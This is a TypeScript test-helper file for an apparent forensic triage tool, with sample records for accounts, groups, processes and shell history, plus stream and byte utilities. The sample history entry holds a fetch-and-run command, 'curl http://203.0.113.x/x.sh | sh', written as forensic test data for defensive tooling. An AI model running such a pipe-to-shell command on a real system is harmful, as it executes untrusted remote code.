/**
 * Test-only helpers (excluded from the package tarball): valid sample records
 * of several kinds, and small byte utilities.
 */
import type { ArtifactRecord } from '@triage/artifact-schema';
import { isTriageError } from '@triage/errors';

const AT = '2026-11-23T16:00:01.000Z';

/** A valid record of one of four kinds, varying with `i`. */
export function sampleRecord(i: number): ArtifactRecord {
  switch (i % 4) {
    case 0:
      return {
        kind: 'user_account',
        source: '/etc/passwd',
        collected_at: AT,
        username: `user${i}`,
        uid: 1000 + i,
        gid: 1000 + i,
        gecos: `User ${i}, ünïcödé`,
        home: `/home/user${i}`,
        shell: '/bin/bash',
        password_status: 'set',
        last_change: '2026-01-02',
        min_days: 0,
        max_days: 99999,
        warn_days: 7,
        inactive_days: null,
        expires: null,
      };
    case 1:
      return {
        kind: 'group',
        source: '/etc/group',
        collected_at: AT,
        name: `group${i}`,
        gid: 2000 + i,
        members: ['root', `user${i}`],
      };
    case 2:
      return {
        kind: 'process',
        source: `/proc/${i}`,
        collected_at: AT,
        pid: i,
        ppid: 1,
        name: 'sshd',
        state: 'S',
        uid: 0,
        user: 'root',
        exe: '/usr/sbin/sshd',
        exe_deleted: false,
        cmdline: ['/usr/sbin/sshd', '-D', 'line\nbreak'],
        cwd: '/',
        start_time: AT,
      };
    default:
      return {
        kind: 'shell_history_entry',
        source: '/root/.bash_history',
        collected_at: AT,
        user: 'root',
        shell: 'bash',
        path: '/root/.bash_history',
        line: i,
        command: `curl http://203.0.113.${i % 250}/x.sh | sh`,
        time: null,
      };
  }
}

/** `count` sample records. */
export function sampleRecords(count: number): ArtifactRecord[] {
  return Array.from({ length: count }, (_, i) => sampleRecord(i));
}

/** An async iterable of the given records. */
export async function* recordsOf(records: readonly ArtifactRecord[]): AsyncGenerator<ArtifactRecord> {
  for (const record of records) yield record;
}

/** Reads a byte stream to its end. */
export async function bytesOf(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  const pieces: Uint8Array[] = [];
  for await (const piece of stream) pieces.push(piece);
  return new Uint8Array(Buffer.concat(pieces));
}

/** The TriageError code a promise rejects with, `'resolved'` when it resolves, or a foreign error's text. */
export async function codeOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
    return 'resolved';
  } catch (error) {
    return isTriageError(error) ? error.code : String(error);
  }
}

/** The error a promise rejects with (fails the test if it resolves). */
export async function errorOf(
  promise: Promise<unknown>,
): Promise<{ code: string; message: string; context: Record<string, unknown> }> {
  try {
    await promise;
  } catch (error) {
    if (isTriageError(error))
      return { code: error.code, message: error.message, context: { ...error.context } };
    throw error;
  }
  throw new Error('expected a rejection, but the promise resolved');
}

/** Splits bytes into a stream of pieces of `size` bytes. */
export function piecesOf(bytes: Uint8Array, size: number): ReadableStream<Uint8Array> {
  let offset = 0;
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (offset >= bytes.length) return controller.close();
      controller.enqueue(bytes.slice(offset, offset + size));
      offset += size;
    },
  });
}

/** Text of bytes. */
export function text(bytes: Uint8Array): string {
  return new TextDecoder().decode(bytes);
}

/** Bytes of text. */
export function utf8(value: string): Uint8Array {
  return new TextEncoder().encode(value);
}

/** A header input for tests. */
export const HEADER = Object.freeze({
  case: '2026-0042',
  host: 'ws-17',
  collector: Object.freeze({ name: 'triage-collect', version: '0.1.0' }),
});

/** A clock that returns `start`, then one second later on each call. */
export function clock(start = '2026-11-23T16:00:00.000Z'): () => Date {
  let t = Date.parse(start);
  return () => {
    const now = new Date(t);
    t += 1000;
    return now;
  };
}

/** The lines of a container, without their newlines (the last, empty piece after the final newline dropped). */
export function linesOf(container: Uint8Array): string[] {
  const lines = text(container).split('\n');
  if (lines.at(-1) === '') lines.pop();
  return lines;
}

/** A container from lines, each followed by a newline. */
export function joinLines(lines: readonly string[]): Uint8Array {
  return utf8(lines.map((line) => `${line}\n`).join(''));
}
